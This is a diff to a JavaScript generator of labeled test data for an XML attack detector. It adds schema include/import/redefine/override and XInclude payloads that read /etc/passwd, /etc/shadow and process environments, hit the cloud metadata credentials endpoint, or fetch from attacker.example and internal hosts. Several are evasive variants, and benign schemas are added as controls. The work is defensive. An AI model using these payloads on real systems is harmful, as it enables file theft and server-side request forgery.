@@ -845,6 +845,46 @@ const GAP_BENIGN = [
 for (const v of GAP_BENIGN) for (const place of gapPlaces) ok('gaps', place(v));
 ok('gaps', { method: 'POST', path: '/upload', headers: [...baseHeaders(), ['content-type', 'multipart/form-data; boundary=q7Zt']],
   body: '--q7Zt\nContent-Disposition: form-data; name="title"\n\nQuarterly report, final draft\n--q7Zt\nContent-Disposition: form-data; name="tags"\n\nfinance, q3\n--q7Zt--\n' });
+// XML Schema directives (include, import, redefine, override) and XInclude that make a parser
+// fetch from a URL or read a local file (xxe); and what must pass: schemas that include their
+// neighbours by relative names, the W3C's xml.xsd, xsi:schemaLocation hints, the words in text.
+const XSD = 'xmlns:xs="http://www.w3.org/2001/XMLSchema"';
+const SCHEMA_XXE = [
+  [false, `<?xml version="1.0"?><xs:schema ${XSD} targetNamespace="urn:shop:orders"><xs:include schemaLocation="file:///etc/passwd"/><xs:element name="order" type="xs:string"/></xs:schema>`],
+  [false, `<xs:schema ${XSD}><xs:import namespace="urn:meta" schemaLocation="http://169.254.169.254/latest/meta-data/iam/security-credentials/"/></xs:schema>`],
+  [false, `<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:redefine schemaLocation="https://attacker.example/base.xsd"><xsd:simpleType name="sku"><xsd:restriction base="sku"/></xsd:simpleType></xsd:redefine></xsd:schema>`],
+  [false, `<schema xmlns="http://www.w3.org/2001/XMLSchema" version="1.1"><override schemaLocation="ftp://198.51.100.9/pub/o.xsd"/></schema>`],
+  [false, `<xs:schema ${XSD}><xs:include schemaLocation="/proc/self/environ"/></xs:schema>`],
+  [false, `<xs:schema ${XSD}><xs:import namespace="urn:x" schemaLocation="\\\\203.0.113.8\\share\\t.xsd"/></xs:schema>`],
+  [false, `<invoice xmlns:xi="http://www.w3.org/2001/XInclude"><total>12</total><xi:include href="file:///etc/shadow" parse="text"/></invoice>`],
+  [false, `<report><include xmlns="http://www.w3.org/2001/XInclude" href="http://10.0.0.12:8080/admin" parse="text"/></report>`],
+  [true, `<xs:schema ${XSD}><xs:import\n\tnamespace="urn:a"\n\tschemaLocation\n=\n'netdoc:/etc/hosts'/></xs:schema>`],
+  [true, `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><xs:schema ${XSD}><xs:include schemaLocation="jar:file:///tmp/u.zip!/a.xsd"/></xs:schema></soap:Body></soap:Envelope>`],
+  [true, `<xs:schema ${XSD}><xs:import namespace="a&gt;b>c" schemaLocation="http://www.w3.org.attacker.example/xml.xsd"/></xs:schema>`],
+];
+for (const [evasive, v] of SCHEMA_XXE) {
+  add('xxe', placeXml(v, { raw: true }), evasive, 'schema or xinclude');
+  add('xxe', placeForm('xml', v), evasive, 'schema or xinclude');
+}
+const SCHEMA_BENIGN = [
+  `<?xml version="1.0"?><xs:schema ${XSD} targetNamespace="urn:shop:orders" elementFormDefault="qualified"><xs:include schemaLocation="common-types.xsd"/><xs:element name="order" type="OrderType"/></xs:schema>`,
+  `<xs:schema ${XSD}><xs:import namespace="urn:shop:address" schemaLocation="../address/address.xsd"/><xs:element name="shipTo" type="a:Address"/></xs:schema>`,
+  `<xs:schema ${XSD}><xs:import namespace="http://www.w3.org/XML/1998/namespace" schemaLocation="http://www.w3.org/2001/xml.xsd"/><xs:attribute ref="xml:lang"/></xs:schema>`,
+  `<xs:schema ${XSD}><xs:redefine schemaLocation="base/item.xsd"><xs:complexType name="Item"><xs:complexContent><xs:extension base="Item"><xs:sequence><xs:element name="gift" type="xs:boolean"/></xs:sequence></xs:extension></xs:complexContent></xs:complexType></xs:redefine></xs:schema>`,
+  `<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion><artifactId>orders</artifactId></project>`,
+  `<beans xmlns="http://www.springframework.org/schema/beans" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.springframework.org/schema/beans https://www.springframework.org/schema/beans/spring-beans.xsd"><bean id="orders" class="shop.Orders"/></beans>`,
+  `<xs:schema ${XSD}><xs:annotation><xs:documentation>Each include names a schemaLocation relative to this file, e.g. schemaLocation="http://example.com/a.xsd" is refused.</xs:documentation></xs:annotation></xs:schema>`,
+  `<?xml version="1.0"?><recipe><step>Include the zest, then import the spices you like.</step><note>xs:include is a schema thing, not a cooking one</note></recipe>`,
+];
+for (const v of SCHEMA_BENIGN) {
+  ok('xml-schema', placeXml(v, { raw: true }));
+  ok('xml-schema', placeForm('xml', v));
+}
+// A harmless internal entity declared first, to hide what comes after it.
+for (const v of [
+  `<!DOCTYPE s [<!ENTITY v "1.0">]><xs:schema ${XSD} version="&v;"><xs:redefine schemaLocation="https://attacker.example/base.xsd"/></xs:schema>`,
+  '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd" [<!ENTITY v "1.0">]><d>&v;</d>',
+]) add('xxe', placeXml(v, { raw: true }), true, 'internal entity first');
 
 // ---------------------------------------------------------------- write
 const lines = (rows) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
